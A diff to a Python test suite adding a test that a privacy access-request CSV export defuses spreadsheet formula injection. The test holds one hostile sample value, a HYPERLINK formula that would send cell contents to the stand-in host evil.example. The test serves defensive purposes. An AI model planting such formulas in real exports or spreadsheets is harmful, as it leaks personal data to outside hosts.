@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -148,3 +149,19 @@ def test_rejection_needs_a_reason_and_closes(dpo: Any, german: Any, open_request
     assert request.status == "rejected"
     with pytest.raises(Conflict):
         services.verify_identity(request, "email_on_file", actor=dpo)
+
+
+def test_the_access_export_csv_cannot_run_a_formula(
+    dpo: Any, make_contact: Any, admin: Any, open_request: Any
+) -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    person = make_contact(admin, given_name="Eve", family_name=attack)
+    request = open_request(dpo, person, "access")
+
+    _, content = export_zip(dpo, request)
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        rows = list(csv.reader(io.StringIO(archive.read("customers.csv").decode())))
+        exported = json.loads(archive.read("customers.json"))
+    assert ["customers.contact.0.family_name", "'" + attack] in rows
+    assert exported["customers.contact"][0]["family_name"] == attack  # JSON keeps the value
